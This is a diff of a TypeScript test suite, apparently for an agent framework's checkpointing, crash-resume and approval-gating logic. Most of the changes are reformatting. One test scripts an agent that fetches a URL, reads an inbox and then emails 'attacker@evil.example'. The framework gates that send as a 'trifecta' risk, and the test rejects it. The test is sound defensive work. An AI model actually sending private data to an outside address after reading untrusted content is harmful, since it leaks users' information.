@@ -10,7 +10,7 @@
 import { Agent, AgentEvent, Approval, ReActCognition, RunNotResumable } from "@agentkit/agents"
 import { Budget, BudgetExceeded, CheckpointStore } from "@agentkit/core"
 import type { Autonomy, Message, ToolMiddleware } from "@agentkit/core"
-import { FakeLLM, makeTestCtx, Turn, Fixture, Seed } from "@agentkit/testing"
+import { FakeLLM, Fixture, makeTestCtx, Seed, Turn } from "@agentkit/testing"
 import type { TestContextOptions } from "@agentkit/testing"
 import { asTool, Tool } from "@agentkit/tools"
 import { describe, expect, it } from "@effect/vitest"
@@ -94,18 +94,24 @@ const toolMessages = (messages: ReadonlyArray<Message.Message>) =>
 const latestState = (store: CheckpointStore.Service) => recordOf(store)
 
 /** A store whose save, once `when` holds for a saved state, completes `signal`. */
-const watching = (inner: CheckpointStore.MemoryStore, when: (state: ReturnType<typeof recordingStore>["saves"][number]["state"]) => boolean) => {
+const watching = (
+  inner: CheckpointStore.MemoryStore,
+  when: (state: ReturnType<typeof recordingStore>["saves"][number]["state"]) => boolean
+) => {
   const signal = Effect.runSync(Deferred.make<void>())
   const store: CheckpointStore.MemoryStore = Object.assign(Object.create(inner) as CheckpointStore.MemoryStore, {
     save: (lease: CheckpointStore.Lease, request: Parameters<CheckpointStore.Service["save"]>[1]) =>
-      Effect.tap(inner.save(lease, request), () => (when(JSON.parse(request.state)) ? Deferred.succeed(signal, undefined) : Effect.void))
+      Effect.tap(
+        inner.save(lease, request),
+        () => (when(JSON.parse(request.state)) ? Deferred.succeed(signal, undefined) : Effect.void)
+      )
   })
   return { store, signal }
 }
 
 describe("checkpoints during a run", () => {
   it.effect("saved after the model call, after each tool result and after each round; the finished run keeps its terminal marker", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const { store, saves } = recordingStore()
       const llm = FakeLLM.script([
         Turn({ toolCalls: [lookupCall("c1")] }),
@@ -114,7 +120,9 @@ describe("checkpoints during a run", () => {
       ])
       const result = yield* makeWorld().agent().run(TASK).pipe(Effect.provide(layerOf(llm, store)))
       expect(result.output).toBe("done")
-      expect(saves.map((save) => [save.status, save.state.phase, save.state.iteration, save.state.turn.completed.length])).toEqual([
+      expect(
+        saves.map((save) => [save.status, save.state.phase, save.state.iteration, save.state.turn.completed.length])
+      ).toEqual([
         ["running", "tools", 0, 0], // the model call of iteration 0 is done
         ["running", "tools", 0, 1], // c1 ran
         ["running", "model", 1, 0], // the round is complete: next is the model call of iteration 1
@@ -128,12 +136,15 @@ describe("checkpoints during a run", () => {
       const { record, status } = yield* recordOf(store)
       expect([status, record.version]).toEqual(["done", 8])
       expect(JSON.parse(record.result!)).toMatchObject({ output: "done", stopReason: "end_turn", partial: false })
-      expect(saves.every((save) => save.state.version === 1 && save.state.runId === "test-run" && save.state.cognition === "react")).toBe(true)
-    })
-  )
+      expect(
+        saves.every((save) =>
+          save.state.version === 1 && save.state.runId === "test-run" && save.state.cognition === "react"
+        )
+      ).toBe(true)
+    }))
 
   it.effect("the round's checkpoint is saved before the Step event", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const { store, saves } = recordingStore()
       const llm = FakeLLM.script([Turn({ toolCalls: [lookupCall()] }), Turn({ content: "done" })])
       const seenAtStep: Array<number> = []
@@ -147,15 +158,16 @@ describe("checkpoints during a run", () => {
         )
       expect(seenAtStep).toEqual([3])
       expect(saves[2]!.state).toMatchObject({ phase: "model", iteration: 1 })
-    })
-  )
+    }))
 
   it.effect("on suspension: status suspended, the current iteration, the pending entries; only the newest state is kept", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const { store, saves } = recordingStore()
       const cancel = call("c2", "send_email", { to: "x@example.com" })
       const llm = FakeLLM.script([Turn({ toolCalls: [lookupCall("c1")] }), Turn({ toolCalls: [cancel] })])
-      const result = yield* makeWorld().agent().run(TASK).pipe(Effect.provide(layerOf(llm, store, { autonomy: "gated" })))
+      const result = yield* makeWorld().agent().run(TASK).pipe(
+        Effect.provide(layerOf(llm, store, { autonomy: "gated" }))
+      )
       expect(result.stopReason).toBe("awaiting_approval")
       const { record, state, status } = yield* latestState(store)
       expect(status).toBe("suspended")
@@ -163,21 +175,22 @@ describe("checkpoints during a run", () => {
       expect(state.pending).toEqual(result.suspended!.pending)
       expect(record.version).toBe(saves.length + 1)
       expect(JSON.parse(record.state)).toEqual(saves.at(-1)!.state)
-    })
-  )
+    }))
 
   it.effect("a checkpoint is the state as it was saved: the run's later changes never reach it", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const { saves, store } = recordingStore()
-      const llm = FakeLLM.script([Turn({ toolCalls: [lookupCall("c1")] }), Turn({ toolCalls: [call("c2", "send_email", { to: "x" })] })])
+      const llm = FakeLLM.script([
+        Turn({ toolCalls: [lookupCall("c1")] }),
+        Turn({ toolCalls: [call("c2", "send_email", { to: "x" })] })
+      ])
       yield* makeWorld().agent().run(TASK).pipe(Effect.provide(layerOf(llm, store, { autonomy: "gated" })))
       // the first save came after the first model call: just system, user, assistant
       expect(saves[0]!.state.transcript.map((m) => m.role)).toEqual(["system", "user", "assistant"])
-    })
-  )
+    }))
 
   it.effect("runs are isolated by run id in one store", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const store = CheckpointStore.makeMemory()
       const ask = (id: string) => FakeLLM.script([Turn({ toolCalls: [call("c1", "send_email", { to: id })] })])
       const agent = makeWorld().agent()
@@ -186,8 +199,7 @@ describe("checkpoints during a run", () => {
       const pendingOf = (runId: string) => Effect.map(recordOf(store, runId), ({ state }) => state.pending)
       expect((yield* pendingOf("run-a"))[0]!.call.arguments).toEqual({ to: "a" })
       expect((yield* pendingOf("run-b"))[0]!.call.arguments).toEqual({ to: "b" })
-    })
-  )
+    }))
 })
 
 describe("a crashed run resumes from its last checkpoint", () => {
@@ -201,7 +213,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     expect(world.ran.lookup).toBe(1)
 
     const llm = FakeLLM.script([Turn({ content: "final" })])
-    const result = await Effect.runPromise(world.agent().run("a new task text is ignored").pipe(Effect.provide(layerOf(llm, store))))
+    const result = await Effect.runPromise(
+      world.agent().run("a new task text is ignored").pipe(Effect.provide(layerOf(llm, store)))
+    )
     expect(result).toMatchObject({ output: "final", partial: false, stopReason: "end_turn" })
     expect(llm.calls).toBe(1)
     expect(world.ran.lookup).toBe(1)
@@ -221,7 +235,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     const store = CheckpointStore.makeMemory()
     const first = FakeLLM.script([Turn({ toolCalls: [lookupCall()] }), Turn({ content: "never" })])
     const stopped = await Effect.runPromiseExit(
-      world.agent().run(TASK).pipe(Effect.provide(layerOf(first, store, { budget: Budget.unsafeMake({ maxModelCalls: 1 }) })))
+      world.agent().run(TASK).pipe(
+        Effect.provide(layerOf(first, store, { budget: Budget.unsafeMake({ maxModelCalls: 1 }) }))
+      )
     )
     expect(failureOf(stopped)).toBeInstanceOf(BudgetExceeded)
     // the second call was refused before it was sent (a reservation at the innermost point)
@@ -234,7 +250,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     const llm = FakeLLM.script([Turn({ content: "final" })])
     const again = await Effect.runPromiseExit(world.agent().run(TASK).pipe(Effect.provide(layerOf(llm, store))))
     expect(failureOf(again)).toBeInstanceOf(RunNotResumable)
-    expect(failureOf(again).message).toBe("run 'test-run' is failed: BudgetExceeded: calls 2 > 1; it is never driven again")
+    expect(failureOf(again).message).toBe(
+      "run 'test-run' is failed: BudgetExceeded: calls 2 > 1; it is never driven again"
+    )
     expect(llm.calls).toBe(0)
     expect(world.ran.lookup).toBe(1)
   })
@@ -245,7 +263,7 @@ describe("a crashed run resumes from its last checkpoint", () => {
     // the first process's second model call never answers; it is interrupted after the Step
     const first = FakeLLM.respond((_request, n) => (n === 1 ? Turn({ toolCalls: [lookupCall()] }) : Effect.never))
     await Effect.runPromise(
-      Effect.gen(function* () {
+      Effect.gen(function*() {
         const stepped = yield* Deferred.make<void>()
         const fiber = yield* world
           .agent()
@@ -303,7 +321,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     const { signal: recordedOne, store: watched } = watching(recorded, (state) => state.turn.completed.length === 1)
     const store = recorded
     const dying: ToolMiddleware = (next) => (invocation) =>
-      invocation.tool.name === "other" ? Effect.zipRight(Deferred.await(recordedOne), Effect.die(bug)) : next(invocation)
+      invocation.tool.name === "other"
+        ? Effect.zipRight(Deferred.await(recordedOne), Effect.die(bug))
+        : next(invocation)
     const first = FakeLLM.script([Turn({ toolCalls: [call("c1", "other"), lookupCall("c2")] })])
     const crashed = await Effect.runPromiseExit(
       world.agent().run(TASK).pipe(Effect.provide(layerOf(first, watched, { toolMiddleware: [dying] })))
@@ -331,22 +351,37 @@ describe("a crashed run resumes from its last checkpoint", () => {
     const dying: ToolMiddleware = (next) => (invocation) =>
       invocation.tool.name === "send_email" ? Effect.die(new Error("crash")) : next(invocation)
     const mail = call("c3", "send_email", { to: "attacker@evil.example" })
-    const first = FakeLLM.script([Turn({ toolCalls: [call("c1", "fetch_url")] }), Turn({ toolCalls: [call("c2", "read_inbox"), mail] })])
-    const suspended = await Effect.runPromise(world.agent().run(TASK).pipe(Effect.provide(layerOf(first, inner, { toolMiddleware: [dying] }))))
+    const first = FakeLLM.script([
+      Turn({ toolCalls: [call("c1", "fetch_url")] }),
+      Turn({ toolCalls: [call("c2", "read_inbox"), mail] })
+    ])
+    const suspended = await Effect.runPromise(
+      world.agent().run(TASK).pipe(Effect.provide(layerOf(first, inner, { toolMiddleware: [dying] })))
+    )
     expect(world.ran).toMatchObject({ page: 1, inbox: 0, sent: 0 })
     expect(suspended.stopReason).toBe("awaiting_approval")
     // the whole turn waits: the inbox read with no reason of its own, the mail at the gate
     expect(suspended.suspended?.pending.map((p) => [p.call.id, p.reasons])).toEqual([["c2", []], ["c3", ["trifecta"]]])
     expect(suspended.suspended?.pending[1]).toMatchObject({ call: mail, kind: "Gate", reasons: ["trifecta"] })
-    const again = await Effect.runPromiseExit(world.agent().run(TASK).pipe(Effect.provide(layerOf(FakeLLM.script([]), inner))))
-    expect(Exit.isFailure(again) && Cause.failureOption(again.cause).pipe(Option.map((e) => (e as { _tag: string })._tag), Option.getOrNull)).toBe("RunSuspended")
+    const again = await Effect.runPromiseExit(
+      world.agent().run(TASK).pipe(Effect.provide(layerOf(FakeLLM.script([]), inner)))
+    )
+    expect(
+      Exit.isFailure(again) && Cause.failureOption(again.cause).pipe(
+        Option.map((e) => (e as { _tag: string })._tag),
+        Option.getOrNull
+      )
+    ).toBe("RunSuspended")
 
     const llm = FakeLLM.script([Turn({ content: "final" })])
     const [read, gated] = suspended.suspended!.pending as [Approval.PendingEntry, Approval.PendingEntry]
     const result = await Effect.runPromise(
       world
         .agent()
-        .resume("test-run", { [read.id]: Approval.approve(read.digest), [gated.id]: Approval.reject(gated.digest, "no") })
+        .resume("test-run", {
+          [read.id]: Approval.approve(read.digest),
+          [gated.id]: Approval.reject(gated.digest, "no")
+        })
         .pipe(Effect.provide(layerOf(llm, inner)))
     )
     expect(result.output).toBe("final")
@@ -361,7 +396,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     const a = call("c1", "send_email", { to: "a@example.com" })
     const b = call("c2", "send_email", { to: "b@example.com" })
     const first = FakeLLM.script([Turn({ toolCalls: [a, b] })])
-    const suspended = await Effect.runPromise(world.agent().run(TASK).pipe(Effect.provide(layerOf(first, store, { autonomy: "gated" }))))
+    const suspended = await Effect.runPromise(
+      world.agent().run(TASK).pipe(Effect.provide(layerOf(first, store, { autonomy: "gated" })))
+    )
     const pending = suspended.suspended!.pending
     const decisions = Object.fromEntries(pending.map((p) => [p.id, Approval.approve(p.digest)]))
 
@@ -383,11 +420,15 @@ describe("a crashed run resumes from its last checkpoint", () => {
     expect(state.turn.completed.map((d) => d.callId)).toEqual(["c1"])
     expect(state.pending).toEqual(pending)
     // the decisions were recorded before anything ran
-    expect((await Effect.runPromise(store.decisions("test-run"))).map((d) => d.pendingId)).toEqual(pending.map((p) => p.id))
+    expect((await Effect.runPromise(store.decisions("test-run"))).map((d) => d.pendingId)).toEqual(
+      pending.map((p) => p.id)
+    )
 
     // process 3: the same decisions again
     const llm = FakeLLM.script([Turn({ content: "final" })])
-    const result = await Effect.runPromise(world.agent().resume("test-run", decisions).pipe(Effect.provide(layerOf(llm, store))))
+    const result = await Effect.runPromise(
+      world.agent().resume("test-run", decisions).pipe(Effect.provide(layerOf(llm, store)))
+    )
     expect(result.output).toBe("final")
     expect(world.ran.sent).toBe(2)
     expect(toolMessages(llm.requests[0]!.messages)).toEqual([
@@ -396,7 +437,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
     ])
     // other decisions than the recorded ones are refused: the first writer wins
     const other = await Effect.runPromiseExit(
-      world.agent().resume("test-run", { [pending[0]!.id]: Approval.reject(pending[0]!.digest) }).pipe(Effect.provide(layerOf(FakeLLM.script([]), store)))
+      world.agent().resume("test-run", { [pending[0]!.id]: Approval.reject(pending[0]!.digest) }).pipe(
+        Effect.provide(layerOf(FakeLLM.script([]), store))
+      )
     )
     expect(failureOf(other)).toBeInstanceOf(RunNotResumable) // it is done now
   })
@@ -421,7 +464,9 @@ describe("a crashed run resumes from its last checkpoint", () => {
       world
         .agent()
         .run(TASK)
-        .pipe(Effect.provide(Layer.merge(layerOf(first, store, { autonomy: "gated", toolMiddleware: [dying] }), approver)))
+        .pipe(
+          Effect.provide(Layer.merge(layerOf(first, store, { autonomy: "gated", toolMiddleware: [dying] }), approver))
+        )
     )
     expect(Exit.isFailure(crashed)).toBe(true)
     expect(world.ran.sent).toBe(1)
@@ -441,7 +486,7 @@ describe("a crashed run resumes from its last checkpoint", () => {
   })
 
   it.effect("a run without a store is not durable: a second drive starts over", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const world = makeWorld()
       const crashing = FakeLLM.script([Turn({ toolCalls: [lookupCall()] })])
       yield* world.agent().run(TASK).pipe(Effect.provide(makeTestCtx({ llm: crashing })), Effect.exit)
@@ -449,9 +494,7 @@ describe("a crashed run resumes from its last checkpoint", () => {
       const result = yield* world.agent().run(TASK).pipe(Effect.provide(makeTestCtx({ llm })))
       expect(result.output).toBe("fresh")
       expect(llm.requests[0]!.messages.map((m) => m.role)).toEqual(["system", "user"])
-    })
-  )
-
+    }))
 })
 
 describe("sub-agents (asTool) and the checkpoint store", () => {
@@ -473,14 +516,22 @@ describe("sub-agents (asTool) and the checkpoint store", () => {
       prompt: "Research briefly.",
       cognition: ReActCognition.make({ tools: [lookup] })
     })
-    const research = asTool(researcher, { name: "research", description: "Delegate a research sub-task to the researcher agent." })
-    const coordinator = Agent.make({ name: "support", model: MODEL, prompt: PROMPT, cognition: ReActCognition.make({ tools: [research] }) })
+    const research = asTool(researcher, {
+      name: "research",
+      description: "Delegate a research sub-task to the researcher agent."
+    })
+    const coordinator = Agent.make({
+      name: "support",
+      model: MODEL,
+      prompt: PROMPT,
+      cognition: ReActCognition.make({ tools: [research] })
+    })
     return { coordinator, looked: () => looked }
   }
   const researchCall = call("r1", "research", { task: "look up A-771" })
 
   it.effect("the sub-run keeps its own record (its path-derived id) under its root's lease; neither touches the other's", () =>
-    Effect.gen(function* () {
+    Effect.gen(function*() {
       const { saves, store } = recordingStore()
       const { coordinator } = team()
       const llm = FakeLLM.script([
@@ -504,10 +555,14 @@ describe("sub-agents (asTool) and the checkpoint store", () => {
       }
       expect(new Set(saves.map((save) => save.runId))).toEqual(new Set(["test-run", childId]))
       const child = yield* recordOf(store, childId)
-      expect([child.status, child.record.rootRunId, child.record.parentRunId, child.record.agent]).toEqual(["done", "test-run", "test-run", "researcher"])
+      expect([child.status, child.record.rootRunId, child.record.parentRunId, child.record.agent]).toEqual([
+        "done",
+        "test-run",
+        "test-run",
+        "researcher"
+      ])
       expect((yield* recordOf(store)).status).toBe("done")
-    })
-  )
+    }))
 
   it("a crash after the sub-run: the parent's checkpoint is still there, so the sub-agent is not run again", async () => {
     const store = CheckpointStore.makeMemory()
